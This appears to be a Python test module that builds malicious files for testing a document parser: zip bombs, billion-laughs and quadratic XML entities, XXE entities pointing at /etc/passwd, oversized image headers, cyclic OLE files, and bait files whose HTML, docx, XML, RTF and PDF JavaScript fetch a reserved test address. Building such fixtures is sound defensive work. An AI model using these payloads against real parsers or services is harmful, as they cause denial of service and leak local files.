"""Files made to hurt a reader: each is small to keep and large, deep, endless or false to read.

`BOMBS` gives each by the name under which it is read.  Everything is made here; nothing is harmful
but to a parser without bounds.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from itertools import pairwise

from tests.formats.bombs_pdf import PDFS
from tests.formats.bombs_text import TEXTS

Make = Callable[[], bytes]
OUTSIDE = "file:///etc/passwd"
SIDE = 1000  # rows, and columns


def _utf8(text: str) -> bytes:
    return text.encode()


def packed(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip file with these members."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method, compresslevel=1) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return made.getvalue()


# --- archives -------------------------------------------------------------------------------------


def nested_zip(depth: int = 10) -> bytes:
    """A zip in a zip in a zip, ten deep, with a text at the bottom."""
    data = b"At the bottom there is a text."
    for level in range(depth):
        data = packed({"inner.txt" if not level else "inner.zip": data})
    return data


def zeros_zip(mebibytes: int = 600) -> bytes:
    """One member that is a thousand times larger than its archive, and larger than any input."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    data = once * mebibytes + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    checksum = 0
    for _ in range(mebibytes):
        checksum = zlib.crc32(bytes(1 << 20), checksum)
    return _archive([(b"zeros.txt", 8, data, mebibytes << 20, checksum)], 1)


def overlapping_zip(times: int = 20_000) -> bytes:
    """Twenty thousand members that are all the same bytes of the archive."""
    text = b"Twice told. " * 80_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(text) + packer.flush()
    return _archive([(b"same.txt", 8, data, len(text), zlib.crc32(text))], times)


def self_zip() -> bytes:
    """A member, stored, whose bytes are the archive itself from there on."""
    empty = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 5, 0) + b"a.zip"
    rest = len(empty) + 46 + 5 + 22
    entry = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, rest, rest, 5, 0, 0, 0, 0, 0, 0
    )
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, rest, rest, 5, 0)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, 51, 2 * len(empty), 0)
    return local + b"a.zip" + empty + entry + b"a.zip" + end


def _archive(members: list[tuple[bytes, int, bytes, int, int]], times: int) -> bytes:
    """Members as they are given, each listed so many times."""
    body, listing = b"", []
    for name, method, data, size, checksum in members:
        numbers = (20, 0, method, 0, 0, checksum, len(data), size, len(name), 0)
        entry = struct.pack("<4sH", b"PK\x01\x02", 20) + struct.pack("<5H3L2H", *numbers)
        listing.append(entry + struct.pack("<3H2L", 0, 0, 0, 0, len(body)) + name)
        body += b"PK\x03\x04" + struct.pack("<5H3L2H", *numbers) + name + data
    central = b"".join(listing) * times
    count = min(len(listing) * times, 0xFFFF)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(body), 0)
    return body + central + end


# --- office files ---------------------------------------------------------------------------------

_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
    '+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}'
    '.main+xml"/>{more}</Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}"/></Relationships>'
)
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_WORKBOOK = (
    f"<workbook {_SHEET} "
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="One" sheetId="1" r:id="rId1"/></sheets></workbook>'
)


def docx(body: str, prologue: str = "") -> bytes:
    """A Word file with this body."""
    part = (
        f'<?xml version="1.0"?>{prologue}<w:document {_WORD}><w:body>{body}</w:body></w:document>'
    )
    types = _TYPES.format(part="word/document.xml", kind="wordprocessingml.document", more="")
    relations = _RELATIONS.format(kind="officeDocument", target="word/document.xml")
    return packed(
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": relations.encode(),
            "word/document.xml": part.encode(),
        }
    )


def xlsx(sheet: str) -> bytes:
    """A workbook with this sheet."""
    more = (
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    )
    types = _TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet", more=more)
    return packed(
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": _RELATIONS.format(
                kind="officeDocument", target="xl/workbook.xml"
            ).encode(),
            "xl/workbook.xml": _WORKBOOK.encode(),
            "xl/_rels/workbook.xml.rels": _RELATIONS.format(
                kind="worksheet", target="worksheets/sheet1.xml"
            ).encode(),
            "xl/worksheets/sheet1.xml": f"<worksheet {_SHEET}>{sheet}</worksheet>".encode(),
        }
    )


def odf(kind: str, body: str) -> bytes:
    """An OpenDocument file: ``text``, ``spreadsheet`` or ``presentation``."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "table", "draw")
    )
    content = (
        f"<office:document-content {spaces}><office:body><office:{kind}>{body}"
        f"</office:{kind}></office:body></office:document-content>"
    )
    return packed(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
            "content.xml": content.encode(),
            "META-INF/manifest.xml": b"<manifest/>",
        }
    )


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _million_cells() -> bytes:
    row = f"<row>{'<c><v>7</v></c>' * SIDE}</row>"
    return xlsx(f"<sheetData>{row * SIDE}</sheetData>")


def _far_cells() -> bytes:
    corners = "".join(
        f'<row r="{row}"><c r="A{row}"><v>1</v></c><c r="XFD{row}"><v>2</v></c></row>'
        for row in (1, 1_048_576)
    )
    merged = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return xlsx(f'<dimension ref="A1:XFD1048576"/><sheetData>{corners}</sheetData>{merged}')


def _repeated_cells() -> bytes:
    cell = '<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p>'
    row = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-cell>'
    return odf("spreadsheet", f'<table:table table:name="a">{row}</table:table-row></table:table>')


def _empty_rows() -> bytes:
    """What every spreadsheet program writes below the last row: a million rows with nothing."""
    cells = '<table:table-cell table:number-columns-repeated="16384"/>'
    rows = f'<table:table-row table:number-rows-repeated="1048575">{cells}</table:table-row>'
    cell = "<table:table-cell><text:p>x</text:p></table:table-cell>"
    first = f"<table:table-row>{cell}</table:table-row>"
    return odf("spreadsheet", f'<table:table table:name="a">{first}{rows}</table:table>')


def _nested_tables(depth: int = 3000) -> bytes:
    opening, closing = "<w:tbl><w:tr><w:tc>", f"{_paragraph('x')}</w:tc></w:tr></w:tbl>"
    return docx(opening * depth + _paragraph("deep") + closing * depth)


def _wide_cells() -> bytes:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>' + _paragraph("x") + "</w:tc>"
    return docx(f"<w:tbl><w:tr>{cell}{cell}</w:tr></w:tbl>")


def _deep_odf(depth: int = 50_000) -> bytes:
    spans = "<text:span>" * depth + "deep" + "</text:span>" * depth
    return odf("text", f"<text:p>{spans}</text:p>")


def laughs(root: str, use: str = "&i;") -> str:
    """A document type in which one entity stands for ten thousand million letters."""
    names = "abcdefghi"
    entities = "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names)
    )
    return f'<!DOCTYPE {root} [<!ENTITY a "{"ha" * 50}">{entities}]>'.replace("&i;", use)


def outside(root: str) -> str:
    """A document type with an entity that is a file of the machine."""
    return f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{OUTSIDE}">]>'


def _epub(items: int = 20_000) -> bytes:
    """A book of one chapter, twenty thousand times over."""
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles>'
        "</container>"
    )
    book = (
        '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml" '
        'media-type="application/xhtml+xml"/></manifest><spine>'
        f"{'<itemref idref=' + chr(34) + 'a' + chr(34) + '/>'}</spine></package>"
    ).replace("</spine>", '<itemref idref="a"/>' * items + "</spine>")
    chapter = f"<html><body>{'<p>Again and again.</p>' * 50}</body></html>"
    return packed(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": container.encode(),
            "book.opf": book.encode(),
            "a.xhtml": chapter.encode(),
        }
    )


# --- pictures and old office files ----------------------------------------------------------------

PIXELS = 60_000  # of each side


def png() -> bytes:
    """A picture of 3,600 million pixels in a few bytes."""

    def piece(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
        )

    head = struct.pack(">2L5B", PIXELS, PIXELS, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1 << 22), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", head) + piece(b"IDAT", pixels) + piece(b"IEND", b"")
    )


def tiff(frames: int = 1) -> bytes:
    """The same as TIFF, without its pixels; with ``frames`` 0, a chain of frames without an end."""
    tags = {256: PIXELS, 257: PIXELS, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: PIXELS, 279: 100}
    entries = b"".join(struct.pack("<2H2L", tag, 4, 1, value) for tag, value in tags.items())
    following = 8 if not frames else 0
    directory = struct.pack("<H", len(tags)) + entries + struct.pack("<L", following)
    return b"II*\x00" + struct.pack("<L", 8) + directory + bytes(200)


def jpeg() -> bytes:
    """The same as JPEG: a head that promises 60,000 by 60,000, and no picture."""
    frame = struct.pack(">HB2HB", 17, 8, PIXELS, PIXELS, 3) + bytes([1, 17, 0, 2, 17, 0, 3, 17, 0])
    tables = b"\xff\xdb\x00\x43\x00" + bytes([1] * 64)
    scan = b"\xff\xda" + struct.pack(">HB", 12, 3) + bytes([1, 0, 2, 0, 3, 0, 0, 63, 0])
    return b"\xff\xd8" + tables + b"\xff\xc0" + frame + scan + bytes(100) + b"\xff\xd9"


def ole(chain: str = "table") -> bytes:
    """An old office container whose chain of sectors, or directory, leads back to itself."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<5H", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<5L", head, 44, 1, 1, 0, 4096, 0xFFFFFFFE)
    struct.pack_into("<3L", head, 64, 0, 0xFFFFFFFE, 0)
    head[76:] = struct.pack("<L", 0) + b"\xff" * (512 - 80)
    table = [0xFFFFFFFD, 1 if chain == "directory" else 2, 3, 2] + [0xFFFFFFFF] * 124
    entry = bytearray(128)
    name = "Root Entry".encode("utf-16-le") + b"\0\0"
    entry[: len(name)] = name
    struct.pack_into("<HBB3L", entry, 64, len(name), 5, 1, 0xFFFFFFFF, 0xFFFFFFFF, 1)
    stream = bytearray(128)
    name = "WordDocument".encode("utf-16-le") + b"\0\0"
    stream[: len(name)] = name
    struct.pack_into("<HBB3L", stream, 64, len(name), 2, 1, 1, 1, 0xFFFFFFFF)
    struct.pack_into("<2L", stream, 116, 2, 0x7FFFFFFF)
    directory = bytes(entry) + bytes(stream) + bytes(256)
    return bytes(head) + struct.pack("<128L", *table) + directory + bytes(1024)


def _polyglot() -> bytes:
    return PDFS["plain.pdf"]() + packed({"inside.txt": b"A second file."})


BOMBS: dict[str, Make] = {
    "nested.zip": nested_zip,
    "zeros.zip": zeros_zip,
    "overlapping.zip": overlapping_zip,
    "self.zip": self_zip,
    "million.xlsx": _million_cells,
    "far.xlsx": _far_cells,
    "repeated.ods": _repeated_cells,
    "empty-rows.ods": _empty_rows,
    "nested-tables.docx": _nested_tables,
    "wide.docx": _wide_cells,
    "deep.odt": _deep_odf,
    "again.epub": _epub,
    "laughs.docx": lambda: docx(_paragraph("&i;"), laughs("w:document")),
    "outside.docx": lambda: docx(_paragraph("&x;"), outside("w:document")),
    "laughs.xml": lambda: _utf8(f"{laughs('r')}<r>&i;</r>"),
    "laughs.svg": lambda: _utf8(f"{laughs('svg')}<svg><text>&i;</text></svg>"),
    "quadratic.xml": lambda: _utf8(
        f'<!DOCTYPE r [<!ENTITY a "{"a" * 100_000}">]><r>{"&a;" * 100_000}</r>'
    ),
    "outside.xml": lambda: _utf8(f"{outside('r')}<r>&x;</r>"),
    "outside.svg": lambda: _utf8(f"{outside('svg')}<svg><text>&x;</text></svg>"),
    "huge.png": png,
    "huge.tif": tiff,
    "endless.tif": lambda: tiff(0),
    "huge.jpg": jpeg,
    "cyclic.doc": ole,
    "cyclic-directory.doc": lambda: ole("directory"),
    "two-in-one.pdf": _polyglot,
    **PDFS,
    **TEXTS,
}

# Too slow for every run of the tests; `scripts/evaluate reading --only bombs` reads all of them.
SLOW = frozenset({"million.html", "repeated.ods", "addresses.eml", "comments.html"})


# --- bait: what would have a careless reader fetch something --------------------------------------

THERE = "http://192.0.2.1/bait"  # an address that is never given out (RFC 5737)
_PAGE = (
    f'<html><head><link rel="stylesheet" href="{THERE}.css"><base href="{THERE}/">'
    f'<script src="{THERE}.js"></script></head><body><p>A page.</p><img src="{THERE}.png">'
    f'<iframe src="{THERE}.html"></iframe><object data="{THERE}.pdf"></object></body></html>'
)
_BAIT_PDF = (
    f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('{THERE}'))>>"
    f"/AA<</WC<</S/SubmitForm/F({THERE})>>>>>>"
)


def _remote_docx() -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    settings = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind}/attachedTemplate" Target="{THERE}.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    made = io.BytesIO(docx(_paragraph("A letter.")))
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("word/_rels/settings.xml.rels", settings)
        archive.writestr("word/settings.xml", f"<w:settings {_WORD}/>")
        archive.writestr(
            "word/_rels/document.xml.rels", settings.replace("attachedTemplate", "image")
        )
    return made.getvalue()


BAIT: dict[str, Make] = {
    "page.html": lambda: _utf8(_PAGE),
    "letter.eml": lambda: _utf8(f"Subject: A\nContent-Type: text/html\n\n{_PAGE}"),
    "notes.md": lambda: _utf8(f"# A\n\n![picture]({THERE}.png)\n\n{_PAGE}"),
    "letter.docx": _remote_docx,
    "schema.xml": lambda: _utf8(
        f'<!DOCTYPE r SYSTEM "{THERE}.dtd" [<!ENTITY x SYSTEM "{THERE}.xml">'
        f'<!ENTITY % y SYSTEM "{THERE}.ent"> %y;]><?xml-stylesheet href="{THERE}.xsl"?>'
        f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{THERE}"/>&x; text</r>'
    ),
    "drawing.svg": lambda: _utf8(
        f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{THERE}.png"/>'
        f"<text>Words</text></svg>"
    ),
    "fields.rtf": lambda: _utf8(
        f"{{\\rtf1 Text {{\\field{{\\*\\fldinst INCLUDEPICTURE {THERE}.png}}}} more}}"
    ),
    "actions.pdf": lambda: PDFS["plain.pdf"]().replace(
        b"<</Type/Catalog/Pages 2 0 R>>", _BAIT_PDF.encode()
    ),
    **{name: BOMBS[name] for name in ("outside.docx", "outside.xml", "outside.svg")},
}
